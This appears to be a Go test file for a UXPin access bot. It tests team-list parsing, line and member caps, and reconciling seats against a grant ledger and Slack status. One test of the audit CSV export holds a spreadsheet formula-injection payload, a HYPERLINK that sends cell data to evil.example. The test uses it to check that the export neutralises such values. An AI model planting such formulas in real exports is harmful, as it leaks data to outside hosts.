package access_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/uxpin-access-bot/uxpin-access-bot/access"
)

func readTeamList(tb testing.TB, name string) string {
	tb.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "teamlist", name))
	if err != nil {
		tb.Fatal(err)
	}
	return string(b)
}

// teamCSV builds a CSV export with n members, mixing roles, quoting and case.
func teamCSV(n int) string {
	var b strings.Builder
	b.WriteString("Name,Email,Role,Last active\r\n")
	roles := []string{"Viewer", "Editor", "Admin", "editor"}
	for i := range n {
		fmt.Fprintf(&b, "\"Member, Number %d\",User%d@Example.com,%s,%d days ago\r\n", i, i, roles[i%len(roles)], i%30)
	}
	return b.String()
}

func utf16LE(s string) string {
	var b []byte
	b = append(b, 0xff, 0xfe)
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func TestParseTeamList(t *testing.T) {
	tests := []struct {
		name      string // fixture file, or a description when text is set
		text      string
		members   int
		warnLines []int           // lines of the expected warnings, in order
		want      []access.Member // some members to check in full
	}{
		{
			name: "export_bom_crlf.csv", members: 4,
			want: []access.Member{
				{Name: "Doe, Jane", Email: "jane.doe@example.com", Role: access.RoleEditor, Line: 2},
				{Name: `Smith "Smitty", John`, Email: "john@example.com", Role: access.RoleAdmin, Line: 3},
				{Name: "O'Brien, Pat", Email: "Pat.OBrien@Example.com", Role: access.RoleAdmin, Line: 6},
			},
		},
		{
			name: "reordered.csv", members: 3,
			want: []access.Member{
				{Name: "Ann Lee", Email: "ann@example.com", Role: access.RoleViewer, Line: 2},
				{Name: "Bob Stone", Email: "bob@example.com", Role: access.RoleEditor, Line: 3},
				{Name: `Carol "CJ" Jones`, Email: "carol@example.com", Role: access.RoleAdmin, Line: 4},
			},
		},
		{
			name: "semicolon.csv", members: 3,
			want: []access.Member{
				{Name: "Müller; Hans", Email: "hans@example.de", Role: access.RoleEditor, Line: 2},
				{Name: "Zoë Ünal", Email: "zoe@example.de", Role: access.RoleViewer, Line: 3},
			},
		},
		{
			name: "pasted.txt", members: 7, warnLines: []int{1},
			want: []access.Member{
				{Name: "Jane Doe", Email: "jane@example.com", Role: access.RoleEditor, Line: 4},
				{Name: "", Email: "bob@example.com", Role: access.RoleAdmin, Line: 5},
				{Name: "John Smith", Email: "john@example.com", Role: access.RoleAdmin, Line: 6},
				{Name: "Mary-Ann O'Neil", Email: "mary@example.com", Role: access.RoleViewer, Line: 7},
				{Name: "Carl Kim", Email: "carl@EXAMPLE.com", Role: access.RoleViewer, Line: 9},
				{Name: "Dee Dee", Email: "dee@example.com", Role: access.RoleViewer, Line: 10},
				{Name: "Pat", Email: "pat@example.com", Role: access.RoleEditor, Line: 11},
			},
		},
		{
			// Bob: unknown role; Carol: no role; ALICE: duplicate; Dan: bad
			// email; Eve: no email. Gina's unbalanced quote must not swallow
			// Hank and Ivy, and the repeated header is skipped silently.
			name: "messy.csv", members: 7, warnLines: []int{3, 4, 5, 6, 7},
			want: []access.Member{
				{Name: "Alice", Email: "alice@example.com", Role: access.RoleEditor, Line: 2},
				{Name: "Bob", Email: "bob@example.com", Role: "", Line: 3},
				{Name: "Carol", Email: "carol@example.com", Role: "", Line: 4},
				{Name: `Frank, "Jr"`, Email: "frank@example.com", Role: access.RoleAdmin, Line: 9},
				{Name: "Gina", Email: "gina@example.com", Role: access.RoleViewer, Line: 10},
				{Name: "Hank", Email: "hank@example.com", Role: access.RoleViewer, Line: 11},
				{Name: "Ivy", Email: "ivy@example.com", Role: access.RoleViewer, Line: 13},
			},
		},
		{
			name: "tab-separated UTF-16 (Excel Unicode Text)", members: 1,
			text: utf16LE("Name\tEmail\tRole\r\nJane Doe\tjane@example.com\tEditor\r\n"),
			want: []access.Member{{Name: "Jane Doe", Email: "jane@example.com", Role: access.RoleEditor, Line: 2}},
		},
		{
			name: "classic Mac line ends", members: 2,
			text: "Email,Role\rjane@example.com,Viewer\rbob@example.com,Admin\r",
			want: []access.Member{{Email: "bob@example.com", Role: access.RoleAdmin, Line: 3}},
		},
		{
			name: "preamble before the header", members: 1,
			text: "UXPin team export\nGenerated today\n\nMember,Permission,Email\nJane,Viewer,jane@example.com\n",
			want: []access.Member{{Name: "Jane", Email: "jane@example.com", Role: access.RoleViewer, Line: 5}},
		},
		{
			name: "first and last name columns", members: 1,
			text: "First name,Last name,Email,Role\nJane,Doe,jane@example.com,Editor\n",
			want: []access.Member{{Name: "Jane Doe", Email: "jane@example.com", Role: access.RoleEditor, Line: 2}},
		},
		{
			name: "pasted rows with unknown and conflicting roles", members: 4, warnLines: []int{2, 3, 4},
			text: "Ann ann@example.com Editor\nBen ben@example.com Guest\nCat cat@example.com Viewer Editor Admin\nann@EXAMPLE.com Admin\nDot mailto:dot@example.com, Admin.\n",
			want: []access.Member{
				{Name: "Ben", Email: "ben@example.com", Role: "", Line: 2},
				{Name: "Cat", Email: "cat@example.com", Role: access.RoleViewer, Line: 3},
				{Name: "Dot", Email: "dot@example.com", Role: access.RoleAdmin, Line: 5},
			},
		},
		{
			name: "header without rows", members: 0,
			text: "Name,Email,Role\r\n",
		},
		{
			name: "generated 2000 rows", members: 2000, text: teamCSV(2000),
			want: []access.Member{
				{Name: "Member, Number 0", Email: "User0@Example.com", Role: access.RoleViewer, Line: 2},
				{Name: "Member, Number 1999", Email: "User1999@Example.com", Role: access.RoleEditor, Line: 2001},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text := tt.text
			if text == "" {
				text = readTeamList(t, tt.name)
			}
			members, warnings, err := access.ParseTeamList(text)
			if err != nil {
				t.Fatalf("ParseTeamList(%s) error = %v; want nil", tt.name, err)
			}
			if len(members) != tt.members {
				t.Errorf("ParseTeamList(%s) members = %d; want %d", tt.name, len(members), tt.members)
			}
			var lines []int
			for _, w := range warnings {
				lines = append(lines, w.Line)
			}
			if !reflect.DeepEqual(lines, tt.warnLines) {
				t.Errorf("ParseTeamList(%s) warnings on lines %v; want %v\n%v", tt.name, lines, tt.warnLines, warnings)
			}
			byEmail := map[string]access.Member{}
			for _, m := range members {
				byEmail[m.Email] = m
			}
			for _, want := range tt.want {
				if got, ok := byEmail[want.Email]; !ok {
					t.Errorf("ParseTeamList(%s) has no member %s", tt.name, want.Email)
				} else if got != want {
					t.Errorf("ParseTeamList(%s) member = %+v; want %+v", tt.name, got, want)
				}
			}
		})
	}
}

func TestParseTeamListWarnings(t *testing.T) {
	long := strings.Repeat("é", 200) + " has no address"
	_, warnings, err := access.ParseTeamList("jane@example.com Editor\n" + long + "\n")
	if err != nil {
		t.Fatalf("ParseTeamList error = %v; want nil", err)
	}
	if len(warnings) != 1 {
		t.Fatalf("ParseTeamList warnings = %v; want 1", warnings)
	}
	w := warnings[0]
	if w.Line != 2 || w.Problem == "" {
		t.Errorf("warning = %+v; want line 2 with a problem", w)
	}
	if n := utf8.RuneCountInString(w.Text); n != 120 || !strings.HasPrefix(long, strings.TrimSuffix(w.Text, "…")) {
		t.Errorf("warning text has %d runes (%q); want the row cut to 120", n, w.Text)
	}

	_, warnings, _ = access.ParseTeamList(readTeamList(t, "messy.csv"))
	for _, w := range warnings {
		if w.Line == 3 && !strings.Contains(w.Problem, `unknown role "Guest"`) {
			t.Errorf("warning for line 3 = %q; want it to name the unknown role", w.Problem)
		}
		if w.Line == 5 && !strings.Contains(w.Problem, "line 2") {
			t.Errorf("warning for line 5 = %q; want it to point at the first row, line 2", w.Problem)
		}
	}
}

func TestParseTeamListRejectsNonLists(t *testing.T) {
	for _, text := range []string{"", " \r\n\t\n", "\ufeff", "Hello, I would like access please", "Name Email Role Last active\nnobody@localhost Editor\n"} {
		members, _, err := access.ParseTeamList(text)
		if access.ErrorCode(err) != access.EINVALID {
			t.Errorf("ParseTeamList(%q) error = %v; want code %q", text, err, access.EINVALID)
		}
		if len(members) != 0 {
			t.Errorf("ParseTeamList(%q) members = %d; want 0", text, len(members))
		}
		if err != nil && access.ErrorMessage(err) == "" {
			t.Errorf("ParseTeamList(%q) error has no message for the user", text)
		}
	}
}

// TestParseTeamList2000 parses a large export; its speed is measured by
// BenchmarkParseTeamList2000, not asserted here.
func TestParseTeamList2000(t *testing.T) {
	members, _, err := access.ParseTeamList(teamCSV(2000))
	if err != nil || len(members) != 2000 {
		t.Fatalf("ParseTeamList(2000 rows) = %d members, %v; want 2000", len(members), err)
	}
}

// TestReadTeamListCapsLines reads 5 MB of short junk lines, more than
// MaxTeamListLines: it keeps MaxWarnings warnings, counts every line it
// read, and says first that the rest of the list was not read.
func TestReadTeamListCapsLines(t *testing.T) {
	var b strings.Builder
	b.WriteString("jane@example.com Editor\n")
	for i := 0; b.Len() < 5<<20; i++ {
		fmt.Fprintf(&b, "junk line %09d, no address\n", i)
	}
	l, err := access.ReadTeamList(b.String())
	if err != nil {
		t.Fatal(err)
	}
	if len(l.Members) != 1 {
		t.Errorf("members = %d; want 1", len(l.Members))
	}
	if n := len(l.Warnings); n != access.MaxWarnings {
		t.Errorf("kept %d warnings; want %d", n, access.MaxWarnings)
	}
	// Lines 2 to MaxTeamListLines are junk, plus the warning that the rest
	// was not read.
	if want := access.MaxTeamListLines; l.WarningsTotal != want {
		t.Errorf("WarningsTotal = %d; want %d", l.WarningsTotal, want)
	}
	if w := l.Warnings[0]; w.Line != access.MaxTeamListLines+1 || !strings.Contains(w.Problem, "at most 100000 lines") || !strings.HasPrefix(w.Text, "junk line") {
		t.Errorf("first warning = %+v; want the line cap at line %d", w, access.MaxTeamListLines+1)
	}
	if w := l.Warnings[1]; w.Line != 2 {
		t.Errorf("second warning = %+v; want line 2, the first junk line", w)
	}
}

// TestReadTeamListCapsMembers reads a CSV export with more than
// MaxTeamMembers members: the first MaxTeamMembers are kept and a warning,
// kept first, says how many rows were ignored.
func TestReadTeamListCapsMembers(t *testing.T) {
	l, err := access.ReadTeamList(teamCSV(access.MaxTeamMembers + 5))
	if err != nil {
		t.Fatal(err)
	}
	if len(l.Members) != access.MaxTeamMembers {
		t.Errorf("members = %d; want %d", len(l.Members), access.MaxTeamMembers)
	}
	if len(l.Warnings) != 1 || l.WarningsTotal != 1 {
		t.Fatalf("warnings = %v (total %d); want only the cap", l.Warnings, l.WarningsTotal)
	}
	// Line 1 is the header, so member MaxTeamMembers+1 is on the line after.
	if w := l.Warnings[0]; w.Line != access.MaxTeamMembers+2 || !strings.Contains(w.Problem, "at most 20000 members") || !strings.Contains(w.Problem, "4 more") {
		t.Errorf("warning = %+v; want the member cap at line %d, with 4 more rows", w, access.MaxTeamMembers+2)
	}
}

func BenchmarkParseTeamList2000(b *testing.B) {
	text := teamCSV(2000)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if _, _, err := access.ParseTeamList(text); err != nil {
			b.Fatal(err)
		}
	}
}

func TestReconcile(t *testing.T) {
	members := []access.Member{
		{Name: "Ann", Email: "Ann@Example.com", Role: access.RoleEditor},      // in ledger, same role
		{Name: "Ben", Email: "ben@example.com", Role: access.RoleAdmin},       // drift from editor
		{Name: "Cy", Email: "cy@example.com", Role: ""},                       // unknown role: not drift
		{Name: "", Email: "dee@example.com", Role: access.RoleViewer},         // in ledger, left Slack
		{Name: "Eli", Email: "eli@example.com", Role: access.RoleEditor},      // not in ledger
		{Name: "Fay", Email: "fay@example.com", Role: access.RoleViewer},      // not in ledger, never in Slack
		{Name: "Hal", Email: "hal@example.com", Role: access.RoleEditor},      // in ledger, email unknown to Slack
		{Name: "Ivy", Email: "ivy@example.com", Role: access.RoleViewer},      // not in ledger, left
		{Name: "Ann again", Email: "ANN@example.com", Role: access.RoleAdmin}, // duplicate: ignored
	}
	ledger := []access.Grant{
		{UserID: "UANN", Email: "ann@example.COM", Role: access.RoleEditor, RequestID: "R-1"},
		{UserID: "UBEN", Email: "ben@example.com", Name: "Ben", Role: access.RoleEditor, RequestID: "R-2"},
		{UserID: "UCY", Email: "cy@example.com", Role: access.RoleViewer, RequestID: "R-3"},
		{UserID: "UDEE", Email: "dee@example.com", Name: "Dee", Role: access.RoleViewer, RequestID: "R-4"},
		{UserID: "UGUS", Email: "gus@example.com", Name: "Gus", Role: access.RoleAdmin, RequestID: "R-5"},
		{UserID: "UGUS", Email: " Gus@example.com ", Name: "Gus", Role: access.RoleAdmin, RequestID: "R-6"},
		{UserID: "UHAL", Email: "hal@example.com", Role: access.RoleEditor, RequestID: "R-7"},
	}
	slack := map[string]struct {
		id     string
		status access.PersonStatus
	}{
		"ann@example.com": {"UANN", access.PersonActive},
		"ben@example.com": {"UBEN", access.PersonActive},
		"cy@example.com":  {"UCY", access.PersonActive},
		"dee@example.com": {"UDEE", access.PersonDeactivated},
		"eli@example.com": {"UELI", access.PersonActive},
		"ivy@example.com": {"UIVY", access.PersonDeactivated},
	}
	var asked []string
	lookup := func(email string) (string, access.PersonStatus) {
		asked = append(asked, email)
		s, ok := slack[strings.ToLower(email)]
		if !ok {
			return "", access.PersonNotInSlack
		}
		return s.id, s.status
	}

	a := access.Reconcile(members, ledger, lookup)

	want := []access.Finding{
		{Kind: access.FindingLeaver, Email: "dee@example.com", Name: "Dee", UXPinRole: access.RoleViewer, LedgerRole: access.RoleViewer, UserID: "UDEE", RequestID: "R-4"},
		{Kind: access.FindingLeaver, Email: "ivy@example.com", Name: "Ivy", UXPinRole: access.RoleViewer, UserID: "UIVY"},
		{Kind: access.FindingNotInSlack, Email: "fay@example.com", Name: "Fay", UXPinRole: access.RoleViewer},
		{Kind: access.FindingNotInSlack, Email: "hal@example.com", Name: "Hal", UXPinRole: access.RoleEditor, LedgerRole: access.RoleEditor, UserID: "UHAL", RequestID: "R-7"},
		{Kind: access.FindingUnknown, Email: "eli@example.com", Name: "Eli", UXPinRole: access.RoleEditor, UserID: "UELI"},
		{Kind: access.FindingRoleDrift, Email: "ben@example.com", Name: "Ben", UXPinRole: access.RoleAdmin, LedgerRole: access.RoleEditor, UserID: "UBEN", RequestID: "R-2"},
		{Kind: access.FindingMissing, Email: "gus@example.com", Name: "Gus", LedgerRole: access.RoleAdmin, UserID: "UGUS", RequestID: "R-5"},
	}
	diffFindings(t, a.Findings, want)

	if a.Members != 8 {
		t.Errorf("Reconcile Members = %d; want 8", a.Members)
	}
	wantSeats := map[access.Role]int{access.RoleEditor: 3, access.RoleAdmin: 1, access.RoleViewer: 3, "": 1}
	if !reflect.DeepEqual(a.SeatsByRole, wantSeats) {
		t.Errorf("Reconcile SeatsByRole = %v; want %v", a.SeatsByRole, wantSeats)
	}
	wantCounts := map[access.FindingKind]int{access.FindingLeaver: 2, access.FindingNotInSlack: 2, access.FindingUnknown: 1, access.FindingRoleDrift: 1, access.FindingMissing: 1}
	if got := a.Counts(); !reflect.DeepEqual(got, wantCounts) {
		t.Errorf("Counts() = %v; want %v", got, wantCounts)
	}
	if len(asked) != 8 {
		t.Errorf("lookup called for %v; want once per distinct member", asked)
	}
	sum := (&access.Reconciliation{Audit: a}).Summary()
	if !strings.Contains(sum, "2 leavers still seated") || !strings.Contains(sum, "2 not in Slack") {
		t.Errorf("Summary() = %q; want leavers and seats not in Slack counted apart", sum)
	}
}

func TestReconcileWithoutLeaverLookup(t *testing.T) {
	members := []access.Member{{Email: "x@example.com", Role: access.RoleViewer}}
	a := access.Reconcile(members, nil, nil)
	diffFindings(t, a.Findings, []access.Finding{{Kind: access.FindingUnknown, Email: "x@example.com", UXPinRole: access.RoleViewer}})

	a = access.Reconcile(nil, nil, nil)
	if len(a.Findings) != 0 || a.Members != 0 {
		t.Errorf("Reconcile(nil, nil, nil) = %+v; want nothing", a)
	}
	if got := a.Counts(); len(got) != len(access.FindingKinds) {
		t.Errorf("Counts() = %v; want every kind, at zero", got)
	}
}

func TestReconcileFromParsedList(t *testing.T) {
	members, _, err := access.ParseTeamList(readTeamList(t, "pasted.txt"))
	if err != nil {
		t.Fatal(err)
	}
	ledger := []access.Grant{
		{UserID: "UJ", Email: "JANE@example.com", Role: access.RoleEditor, RequestID: "R-1"},
		{UserID: "UC", Email: "carl@example.com", Role: access.RoleEditor, RequestID: "R-2"},
	}
	got := access.Reconcile(members, ledger, nil).Counts()
	want := map[access.FindingKind]int{access.FindingLeaver: 0, access.FindingNotInSlack: 0, access.FindingUnknown: 5, access.FindingRoleDrift: 1, access.FindingMissing: 0}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Reconcile(pasted.txt).Counts() = %v; want %v", got, want)
	}
}

func diffFindings(t *testing.T, got, want []access.Finding) {
	t.Helper()
	for i := range max(len(got), len(want)) {
		var g, w access.Finding
		if i < len(got) {
			g = got[i]
		}
		if i < len(want) {
			w = want[i]
		}
		if g != w {
			t.Errorf("finding %d:\n got %+v\nwant %+v", i, g, w)
		}
	}
}

func TestReconcileAuditCSV(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	a := access.Audit{Findings: []access.Finding{
		{Kind: access.FindingUnknown, Email: "eve@example.com", Name: evil, UXPinRole: access.RoleAdmin},
		{Kind: access.FindingMissing, Email: "+1@example.com", Name: "-Bob, @home", LedgerRole: access.RoleViewer, UserID: "U1", RequestID: "R-7"},
		{Kind: access.FindingRoleDrift, Email: "tab@example.com", Name: "\tTab\r", UXPinRole: access.RoleEditor, LedgerRole: access.RoleViewer},
	}}
	var buf bytes.Buffer
	if err := a.CSV(&buf); err != nil {
		t.Fatalf("CSV() error = %v", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("CSV() output does not parse back: %v\n%s", err, buf.String())
	}
	want := [][]string{
		{"kind", "email", "name", "uxpin_role", "ledger_role", "slack_user", "request"},
		{"unknown_seat", "eve@example.com", "'" + evil, "admin", "", "", ""},
		{"missing", "'+1@example.com", "'-Bob, @home", "", "viewer", "U1", "R-7"},
		{"role_drift", "tab@example.com", "'\tTab\r", "editor", "viewer", "", ""},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("CSV() rows =\n%q\nwant\n%q", rows, want)
	}
}
